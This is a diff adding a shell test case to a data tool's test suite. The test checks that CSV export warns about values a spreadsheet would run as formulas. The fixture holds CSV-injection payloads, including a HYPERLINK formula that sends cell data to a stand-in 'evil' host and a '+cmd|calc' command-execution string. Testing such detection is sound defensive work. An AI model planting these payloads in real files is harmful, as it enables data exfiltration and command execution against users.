@@ -1067,3 +1067,15 @@ run --db plain.sqlite export --what aggregate:country_by_category -o plain/agg.c
 assert_eq 0 "$RC" "exit status ($OUT)"
 assert_eq "" "$(ls plain/ | grep columns)" "no key file"
 case_end
+
+case_begin "CSV: text a spreadsheet would run as a formula (=HYPERLINK, +cmd|, @SUM) is written as it is, with a note naming the first; numbers and a lone dash are not counted"
+printf 'id,name,company,category,lon,lat,amount\n1,"=HYPERLINK(""http://evil/?""&A1,""click"")",+cmd|calc!A0,@SUM(1+1),10.1234,20.1234,-5\n2,-12,ACME,-,10.2,20.2,-1.5\n' > formula.csv
+fp_init formula.sqlite && "$FP" -q --db formula.sqlite import formula.csv --dataset f
+run --db formula.sqlite export -o formula_out.csv
+assert_eq 0 "$RC" "exit status"
+assert_contains "$OUT" "export: 3 text values that a spreadsheet would run as a formula (beginning with =, @, + or -); the first: layer projects, feature 1" "the note counts three"
+# The values as written (Python's csv): unchanged.
+assert_eq '=HYPERLINK("http://evil/?"&A1,"click")|+cmd|calc!A0|@SUM(1+1)' "$(python3 -c "import csv; r = next(csv.DictReader(open('formula_out.csv'))); print(r['name'] + '|' + r['company'] + '|' + r['category'])")" "written as they are"
+run --db formula.sqlite export -o formula_out.geojson
+assert_not_contains "$OUT" "spreadsheet" "no note for GeoJSON"
+case_end
